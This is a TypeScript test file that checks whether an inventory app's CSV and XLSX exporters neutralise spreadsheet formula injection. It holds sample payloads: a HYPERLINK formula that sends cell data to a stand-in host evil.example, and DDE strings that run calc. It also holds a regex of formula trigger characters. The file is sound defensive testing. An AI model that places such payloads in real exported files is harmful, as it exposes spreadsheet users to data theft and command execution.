import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { exportCsv } from '../../src/imports/exports';
import { onePage, reportBuffer } from '../../src/reports/report-writers';
import { purchaseOrderCsv } from '../../src/replenishment/po-export';
import type { PurchaseOrderDto } from '../../src/replenishment/purchase-orders.schema';
import { describeEachBackend } from '../support/backends';
import { uid } from '../support/factories';
import { useOwnerApi } from '../support/owner-api';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  "|' /C calc'!A0",
];
/** Text the API refuses in titles (a tab) still reaches report writers from other sources. */
const REPORT_TEXT = [...HOSTILE, '\t=1+1', '\r=1+1'];

/** The cells of a CSV text, as a spreadsheet reads them. */
const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: true }) as string[][];

describeEachBackend('Spreadsheet-safe text in every CSV and XLSX writer', (backend) => {
  const t = useOwnerApi(backend);
  const skus = HOSTILE.map(() => uid('FX-'));

  beforeAll(async () => {
    for (const [i, title] of HOSTILE.entries())
      expect((await t.api.post('/api/v1/products', { sku: skus[i], title })).status).toBe(201);
  });

  it('`stockwise export products` neutralises every formula trigger (and keeps the text)', async () => {
    let csv = '';
    for await (const chunk of exportCsv(t.sw.tx, t.owner.actor, 'products')) csv += chunk;
    const rows = parseCsv(csv);
    const titleAt = rows[0]!.indexOf('title');
    for (const [i, title] of HOSTILE.entries()) {
      const row = rows.find((r) => r[0] === skus[i]);
      expect(row?.[titleAt], title).toBe(`'${title}`);
    }
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@|\t\r]/);
  });

  it('reports: CSV cells get the apostrophe; XLSX cells are text (typed and formatted), never formulas', async () => {
    const rows = REPORT_TEXT.map((title) => ({ sku: uid('R-'), title, units: -3 }));
    const source = onePage(rows);
    const csv = parseCsv(
      (await reportBuffer('csv', { sheet: 'r', columns: ['sku', 'title', 'units'] }, source)).toString(
        'utf8',
      ),
    );
    expect(csv.slice(1).map((r) => r[1])).toEqual(REPORT_TEXT.map((t) => `'${t}`));
    expect(csv[1]![2]).toBe('-3'); // a number stays a number

    const xlsxSource = onePage(rows);
    const bytes = await reportBuffer('xlsx', { sheet: 'r', columns: ['sku', 'title', 'units'] }, xlsxSource);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    for (const [i, title] of REPORT_TEXT.entries()) {
      const cell = sheet.getRow(i + 2).getCell(2);
      expect(cell.type, title).toBe(ExcelJS.ValueType.String);
      // (XML reads a carriage return back as a line feed.)
      expect(cell.value).toBe(title.replace('\r', '\n'));
      expect(cell.numFmt).toBe('@');
      expect(sheet.getRow(i + 2).getCell(3).value).toBe(-3);
    }
  });

  it('purchase-order CSV neutralises supplier-facing text', () => {
    const po = {
      number: 'PO-1',
      supplier: { code: '=SUP' },
      location: '@WH',
      status: 'draft',
      expectedOn: null,
      currency: 'USD',
      lines: [
        {
          lineNo: 1,
          sku: 'A-1',
          barcode: null,
          title: HOSTILE[0],
          quantity: 5,
          unitCost: 2,
          lineTotal: 10,
          receivedQuantity: 0,
        },
      ],
    } as unknown as PurchaseOrderDto;
    const rows = parseCsv(purchaseOrderCsv(po));
    const cells = rows.slice(1).flat();
    expect(cells).toContain("'=SUP");
    expect(cells).toContain("'@WH");
    expect(cells).toContain(`'${HOSTILE[0]!}`);
    for (const value of cells) expect(value).not.toMatch(/^[=+\-@|\t\r]/);
  });
});
